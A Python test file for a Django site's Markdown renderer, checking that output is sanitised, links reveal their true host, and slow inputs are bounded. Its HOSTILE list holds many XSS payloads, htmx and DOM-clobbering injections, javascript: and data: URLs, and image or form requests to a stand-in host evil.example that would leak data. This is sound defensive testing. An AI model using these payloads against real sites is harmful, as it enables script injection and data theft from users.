"""Markdown: what is drawn, and that nothing hostile gets through (abuse cases S19 to S21)."""

import re
import time
from html.parser import HTMLParser

import pytest
from django.utils.safestring import SafeString
from hypothesis import given
from hypothesis import strategies as st

from halo_site.markdown import TAGS, plain, render

ALLOWED = {
    "a": {"href", "rel"},
    "th": {"align"},
    "td": {"align"},
    "ol": {"start"},
    **{tag: set() for tag in TAGS - {"a", "th", "td", "ol"}},
    "small": set(),
}
REL = "noopener noreferrer nofollow"

HOSTILE = [
    # scripts and handlers
    "<script>alert(1)</script>",
    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "`<script>`<script>alert(1)</script>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '``` x" onmouseover="alert(1)\n```',
    "# <img src=x onerror=alert(1)>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    # links
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](//evil.example)",
    "[x](/apps/1/uninstall/)",
    "[x](?q=1)",
    "[x](#now)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    '[x](https://evil.example "onmouseover=alert(1)")',
    '[x](https://evil.example/"onmouseover="alert\\(1\\))',
    "<a href=https://evil.example target=_blank ping=https://evil.example>x</a>",
    # htmx and clobbering
    "<div hx-get=/apps/ hx-trigger=load>x</div>",
    "<div data-hx-get=/apps/ data-hx-trigger=load>x</div>",
    "<div data-hx-on:load='alert(1)'></div>",
    "<div hx-vals='js:{x:alert(1)}'></div>",
    "<div hx-ext=sse sse-connect=https://evil.example></div>",
    "<div id=main hx-swap-oob=true>taken over</div>",
    "<form action=https://evil.example method=post><button>Sign in</button></form>",
    "<input name=csrfmiddlewaretoken value=x>",
    "<a id=shell name=body class=btn href=https://evil.example>x</a>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<p class=visually-hidden>x</p>",
    # what a browser would fetch
    "![](https://evil.example/?q=secret)",
    "![x](https://evil.example/x.png)",
    '![a" onerror="alert(1)](https://evil.example/x.png)',
    "![x][y]\n\n[y]: https://evil.example/x.png",
    "![<img src=x onerror=alert(1)>](x)",
    "[![x](https://evil.example/x.png)](https://evil.example)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](/logout/)",
    "<link rel=prefetch href=https://evil.example>",
    "<picture><source srcset=https://evil.example/x></picture>",
    "<audio src=https://evil.example/x autoplay></audio>",
    # text that is only text
    "{{ 7|add:7 }}{% load halo %}{% debug %}",
    "\u202egnp.exe",
    "\x00<script>",
]
WORDS = st.sampled_from(
    [
        *HOSTILE,
        "[",
        "](",
        ")",
        "<",
        ">",
        '"',
        "'",
        "&",
        "`",
        "\n",
        "\n\n",
        "    ",
        "- [ ] ",
        "|",
        "---",
        "href=",
        "a",
    ]
)


class Seen(HTMLParser):
    """Notes everything in a page that is not allowed."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.links: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            self.check(tag, name, value or "")

    def check(self, tag: str, name: str, value: str) -> None:
        if name not in ALLOWED.get(tag, set()):
            self.problems.append(f"<{tag} {name}>")
        if name == "rel" and value != REL:
            self.problems.append(f"rel={value}")
        if name == "href":
            self.links.append(value)
            if not re.match(r"(https?://|mailto:)", value, re.IGNORECASE):
                self.problems.append(f"href={value}")

    def handle_comment(self, data: str) -> None:
        self.problems.append(f"<!--{data}")

    def handle_decl(self, decl: str) -> None:
        self.problems.append(f"<!{decl}")

    def handle_pi(self, data: str) -> None:
        self.problems.append(f"<?{data}")


def seen(text: str) -> Seen:
    parser = Seen()
    parser.feed(render(text))
    parser.close()
    return parser


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_gets_through(text: str) -> None:
    assert seen(text).problems == []


@given(st.lists(st.one_of(WORDS, st.text()), max_size=6).map("".join))
def test_nothing_hostile_gets_through_in_any_mixture(text: str) -> None:
    assert seen(text).problems == []


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("# a\n\n###### b", "<h1>a</h1>\n<h6>b</h6>\n"),
        ("**a** *b* ~~c~~ `d`", "<p><strong>a</strong> <em>b</em> <del>c</del> <code>d</code></p>\n"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
        ("3. a", '<ol start="3">\n<li>a</li>\n</ol>\n'),
        ("- [x] a\n- [ ] b", "<ul>\n<li>☑ a</li>\n<li>☐ b</li>\n</ul>\n"),
        ("> a", "<blockquote>\n<p>a</p>\n</blockquote>\n"),
        ("```python\nx < 1\n```", "<pre><code>x &lt; 1\n</code></pre>\n"),
        ("a\n\n---", "<p>a</p>\n<hr>\n"),
        ("价格 **19.50**", "<p>价格 <strong>19.50</strong></p>\n"),
    ],
)
def test_markdown_is_drawn(text: str, html: str) -> None:
    assert render(text) == html


def test_a_table_keeps_its_alignment() -> None:
    html = render("| a | b |\n|:-:|--:|\n| 1 | 2 |")
    assert '<th align="center">a</th>' in html
    assert '<td align="right">2</td>' in html


def test_a_link_is_followed_without_telling_where_from() -> None:
    assert render("[a](https://a.example/b)").startswith(
        f'<p><a href="https://a.example/b" rel="{REL}">a</a>'
    )


@pytest.mark.parametrize(
    "text",
    [
        "[our bank](https://evil.example/x)",
        "[https://bank.example](https://evil.example/x)",
        "[**b**](http://evil.example)",
    ],
)
def test_a_link_names_the_host_that_it_leads_to(text: str) -> None:
    assert "</a> <small>(evil.example)</small>" in render(text)


@pytest.mark.parametrize(
    "text",
    [
        "https://a.example/b?c=1&d=2",
        "[a.example](https://a.example/b)",
        "[https://a.example](https://a.example/b)",
    ],
)
def test_a_link_that_shows_its_host_is_left_alone(text: str) -> None:
    assert "<small>" not in render(text)


def test_a_name_before_the_host_is_not_taken_for_the_host() -> None:
    assert "<small>(evil.example)</small>" in render(
        "[https://bank.example@evil.example.test](https://evil.example/)"
    )


def test_an_image_is_shown_as_its_words_and_address() -> None:
    assert (
        render('![A "kettle"](https://a.example/k.png "t")')
        == '<p>[A "kettle" · https://a.example/k.png]</p>\n'
    )


def test_a_long_image_address_is_cut() -> None:
    assert len(render(f"![x](https://a.example/{'y' * 5000})")) < 300


@pytest.mark.parametrize(
    "text",
    ["<div>\nsecret\n</div>", "<!-- secret -->", "- x\n\n  <pre>\n  secret\n  </pre>", "<script>1</script>"],
)
def test_a_block_of_html_that_is_left_out_is_said_to_be(text: str) -> None:
    page = render(f"before\n\n{text}\n\nafter")
    assert page.count("<small>(HTML is left out here") == 1
    assert "secret" not in page


def test_html_that_is_left_out_within_a_line_leaves_a_mark() -> None:
    page = render("a <b>c</b> d <!-- secret --> e")
    assert page == (
        "<p>a <small>&lt;…&gt;</small>c<small>&lt;…&gt;</small> d <small>&lt;…&gt;</small> e</p>\n"
    )


@pytest.mark.parametrize(
    "text", ["a < b", "`<b>`", "```\n<!-- raw HTML omitted -->\n```", "<https://a.example>"]
)
def test_what_is_shown_has_no_mark_of_something_left_out(text: str) -> None:
    assert "…" not in render(text)
    assert "left out" not in render(text)


def test_template_syntax_is_only_text() -> None:
    assert "{{ 7|add:7 }}" in render("{{ 7|add:7 }}")


@given(st.text(st.characters()))
def test_any_text_is_rendered(text: str) -> None:
    assert isinstance(render(text), SafeString)


@pytest.mark.parametrize(
    "text",
    [
        ">" * 1_000_000,
        "&" * 1_000_000,
        "[" * 1_000_000,
        "*a_" * 300_000,
        "![a](b)" * 140_000,
        "- " * 500_000 + "a",
    ],
)
def test_text_that_is_made_to_be_slow_is_not(text: str) -> None:
    start = time.process_time()
    render(text)
    assert time.process_time() - start < 5


def test_text_that_is_too_deep_is_shown_as_written() -> None:
    assert render(">" * 50 + " <b>a</b>") == f"<pre>{'&gt;' * 50} &lt;b&gt;a&lt;/b&gt;</pre>"


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ("Shall I **also** watch `copper` pans?", "Shall I also watch copper pans?"),
        ("See [the list](https://example.org)", "See the list"),
        ("# Buy?\n\n- one\n- two", "Buy? one two"),
        ("Is 2 * 3 * 4 < snake_case & `a<b`?", "Is 2 * 3 * 4 < snake_case & a<b?"),
        ("Send it to <name> or <b>all</b>?", "Send it to <name> or <b>all</b>?"),
        ("![a kettle](https://example.org/k.png)", "[a kettle · https://example.org/k.png]"),
        ("| a | b |\n|---|---|\n| 1 | 2 |", "a b 1 2"),
        ("\ud83d", "\ufffd"),
    ],
)
def test_a_title_is_the_text_without_its_marks(text: str, line: str) -> None:
    assert plain(text) == line


@given(st.text())
def test_any_text_makes_a_title_of_one_line(text: str) -> None:
    assert plain(text).splitlines() in ([], [plain(text)])


@pytest.mark.parametrize("written", ["\u202e", "&#x202E;", "\u2067"])
def test_what_turns_writing_around_is_a_mark(written: str) -> None:
    page = render(f"pay {written}evil [x](https://a.example/{written}b)")
    assert "U+202E</small>evil" in page or "U+2067</small>evil" in page
    assert not any(turning in page for turning in "\u202e\u2067")
    assert plain(f"pay {written}evil") == "pay \ufffdevil"


def test_joiners_and_marks_of_languages_are_left_alone() -> None:
    for text in ("\U0001f469\u200d\U0001f4bb", "\u0645\u06cc\u200c\u062e", "\u05d0\u200f!"):
        assert text in render(text)
